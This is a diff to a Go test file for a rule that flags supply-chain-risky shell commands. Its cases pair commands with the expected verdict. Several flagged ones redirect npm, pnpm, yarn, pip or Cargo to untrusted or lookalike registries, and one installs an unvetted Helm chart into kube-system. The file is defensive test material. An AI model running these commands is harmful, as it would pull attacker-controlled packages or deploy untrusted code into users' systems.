@@ -5,6 +5,12 @@ import "testing"
 func TestSupplyChainSource(t *testing.T) {
 	runRuleCases(t, "supply-chain.package-source", []ruleCase{
 		cmdCase("npm config set registry http://45.33.32.156:4873/", true),
+		// A config file written by its path as given, relative to the project.
+		cmdCase(`mkdir -p .cargo && printf '[source.crates-io]\nreplace-with = "mirror"\n[source.mirror]\nregistry = "sparse+https://index.crates-rs.net/"\n' > .cargo/config.toml`, true),
+		cmdCase(`printf '[build]\njobs = 4\n' > .cargo/config.toml`, false),
+		cmdCase("helm repo add fastcharts https://charts.fast-deploy.xyz && helm install agent fastcharts/agent -n kube-system", true),
+		cmdCase("helm repo add jetstack https://charts.jetstack.io --force-update", false),
+		cmdCase("helm repo update && helm search repo redis", false),
 		cmdCase("pnpm config set @acme:registry https://npm.acme-mirror.example/", true),
 		cmdCase(`yarn config set npmRegistryServer "http://203.0.113.4:4873"`, true),
 		cmdCase("pip config set global.index-url http://evil.example.net/simple", true),
